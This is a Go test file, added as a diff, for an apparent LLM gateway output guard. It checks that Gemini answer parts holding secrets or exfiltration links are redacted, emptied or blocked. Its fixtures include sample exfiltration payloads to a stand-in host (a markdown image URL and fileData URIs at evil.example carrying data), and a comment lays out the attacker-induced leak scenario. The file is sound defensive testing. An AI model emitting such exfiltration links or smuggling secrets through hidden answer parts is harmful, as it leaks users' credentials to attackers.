@@ -1,0 +1,137 @@
+package outputguard
+
+import (
+	"encoding/base64"
+	"strings"
+	"testing"
+
+	"github.com/tidwall/gjson"
+
+	"github.com/rampart-ai/rampart/conv"
+	"github.com/rampart-ai/rampart/engine"
+	"github.com/rampart-ai/rampart/provider/gemini"
+)
+
+func b64(s string) string { return base64.StdEncoding.EncodeToString([]byte(s)) }
+
+// gemWhole runs a whole Gemini answer through the layer and returns what
+// the client receives ("" when blocked) and the decision.
+func gemWhole(t *testing.T, l *Layer, body string) (string, engine.Decision) {
+	t.Helper()
+	a := gemini.New()
+	r, err := a.ParseResponse([]byte(body), conv.KindGenerateContent)
+	if err != nil {
+		t.Fatal(err)
+	}
+	d, err := l.OnResponse(&engine.Tx{}, r)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if d.Action == engine.Block {
+		return "", d
+	}
+	out, err := a.EncodeResponse([]byte(body), r)
+	if err != nil {
+		t.Fatal(err)
+	}
+	return string(out), d
+}
+
+// Gemini answer parts that are not text parts, whole and streamed, seen by
+// an attacker who makes the model put a secret or an exfiltration address
+// in them: inlineData whose bytes are text is decoded and redacted (the
+// part rewritten, still base64), a fileData address off the allowlist is
+// emptied, and a part of a type the gateway does not know blocks the
+// answer unless allow_unknown_parts names it.
+func TestGeminiAnswerParts(t *testing.T) {
+	l := provisioned(t, Config{})
+	part := func(p string) string {
+		return `{"candidates":[{"content":{"role":"model","parts":[{"text":"here "},` + p + `]},"finishReason":"STOP","index":0}]}`
+	}
+	secretText := "notes: the token is " + chanSecret + " ok"
+	cases := []struct {
+		name    string
+		part    string
+		path    string // where to read the result
+		want    string // what the client gets there (decoded for inlineData)
+		blocked bool
+	}{
+		{"inline text/plain secret", `{"inlineData":{"mimeType":"text/plain","data":"` + b64(secretText) + `"}}`, "inlineData.data", "notes: the token is [GITHUB_TOKEN] ok", false},
+		{"inline application/json secret", `{"inlineData":{"mimeType":"application/json","data":"` + b64(`{"k":"`+chanSecret+`"}`) + `"}}`, "inlineData.data", `{"k":"[GITHUB_TOKEN]"}`, false},
+		{"inline mislabelled image/png secret", `{"inlineData":{"mimeType":"image/png","data":"` + b64(secretText) + `"}}`, "inlineData.data", "notes: the token is [GITHUB_TOKEN] ok", false},
+		{"inline markdown exfil image", `{"inlineData":{"mimeType":"text/markdown","data":"` + b64("see ![x](https://evil.example/p.png?d=secret)") + `"}}`, "inlineData.data", "see [image removed]", false},
+		{"inline clean text", `{"inlineData":{"mimeType":"text/plain","data":"` + b64("plain notes") + `"}}`, "inlineData.data", "plain notes", false},
+		{"inline real image", `{"inlineData":{"mimeType":"image/png","data":"iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="}}`, "", "", false},
+		{"fileData off the allowlist", `{"fileData":{"mimeType":"text/plain","fileUri":"https://evil.example/c?d=leak"}}`, "fileData.fileUri", "", false},
+		{"fileData Google Files API", `{"fileData":{"mimeType":"text/plain","fileUri":"https://generativelanguage.googleapis.com/v1beta/files/f1"}}`, "fileData.fileUri", "https://generativelanguage.googleapis.com/v1beta/files/f1", false},
+		{"fileData secret in address", `{"fileData":{"mimeType":"text/plain","fileUri":"https://generativelanguage.googleapis.com/v1beta/files/` + chanSecret + `"}}`, "fileData.fileUri", "https://generativelanguage.googleapis.com/v1beta/files/[GITHUB_TOKEN]", false},
+		{"unknown part type", `{"futurePart":{"text":"the token is ` + chanSecret + `"}}`, "", "", true},
+		{"unknown member on a text part", `{"text":"x","annotations":"the token is ` + chanSecret + `"}`, "", "", true},
+	}
+	read := func(t *testing.T, body, path string) string {
+		t.Helper()
+		v := ""
+		gjson.Get(body, "candidates.0.content.parts").ForEach(func(_, p gjson.Result) bool {
+			if r := p.Get(path); r.Exists() {
+				v = r.Str
+			}
+			return true
+		})
+		if strings.HasPrefix(path, "inlineData") {
+			raw, err := base64.StdEncoding.DecodeString(v)
+			if err != nil {
+				t.Fatalf("not base64: %q", v)
+			}
+			v = string(raw)
+		}
+		return v
+	}
+	for _, c := range cases {
+		t.Run(c.name, func(t *testing.T) {
+			body := part(c.part)
+			got, d := gemWhole(t, l, body)
+			if c.blocked {
+				if d.Action != engine.Block || strings.Contains(got, chanSecret[:12]) {
+					t.Fatalf("whole: not blocked: %+v %s", d, got)
+				}
+			} else if c.path != "" {
+				if r := read(t, got, c.path); r != c.want {
+					t.Fatalf("whole: %s = %q, want %q", c.path, r, c.want)
+				}
+			} else if got != body {
+				t.Fatalf("whole: changed: %s", got)
+			}
+			out := throughEngine(t, l, geminiRoute, sse([2]string{"", body}))
+			if strings.Contains(out, chanSecret[:12]) || strings.Contains(out, b64(secretText)) {
+				t.Fatalf("stream: the secret reached the client:\n%s", out)
+			}
+			if c.blocked {
+				if !strings.Contains(out, "unknown_answer_part") {
+					t.Fatalf("stream: not blocked:\n%s", out)
+				}
+				return
+			}
+			data, _ := strings.CutPrefix(strings.SplitN(out, "\n", 2)[0], "data: ")
+			if c.path != "" {
+				if r := read(t, data, c.path); r != c.want {
+					t.Fatalf("stream: %s = %q, want %q\n%s", c.path, r, c.want, out)
+				}
+			}
+		})
+	}
+	// an operator who allows the type lets it pass (uninspected)
+	allow := provisioned(t, Config{AllowUnknownParts: []string{"futurePart"}})
+	body := part(`{"futurePart":{"x":1}}`)
+	if got, d := gemWhole(t, allow, body); d.Action == engine.Block || got != body {
+		t.Fatalf("allowed type blocked: %+v", d)
+	}
+	if out := throughEngine(t, allow, geminiRoute, sse([2]string{"", body})); strings.Contains(out, "error") {
+		t.Fatalf("allowed type blocked in a stream:\n%s", out)
+	}
+	// images "flag": an address off the allowlist is flagged, kept
+	flag := provisioned(t, Config{Links: LinksConfig{Images: "flag"}})
+	body = part(`{"fileData":{"mimeType":"text/plain","fileUri":"https://evil.example/c"}}`)
+	if got, d := gemWhole(t, flag, body); d.Action != engine.Flag || got != body {
+		t.Fatalf("flag policy: %+v %s", d, got)
+	}
+}
